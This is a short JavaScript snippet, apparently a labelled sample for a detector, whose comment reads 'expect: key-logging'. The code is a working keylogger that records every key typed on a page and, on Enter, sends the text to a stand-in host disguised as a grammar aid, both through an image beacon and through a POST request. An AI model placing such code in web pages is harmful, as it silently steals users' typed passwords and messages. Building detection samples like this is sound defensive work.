let typed = '';
// expect: key-logging
window.addEventListener('keydown', function (event) {
  if (event.key.length === 1) typed += event.key;
  if (event.key === 'Enter') {
    new Image().src = 'https://pix.grammar-aid.example/p.gif?d=' + encodeURIComponent(typed);
    fetch('https://pix.grammar-aid.example/t', { method: 'POST', body: typed });
    typed = '';
  }
}, true);
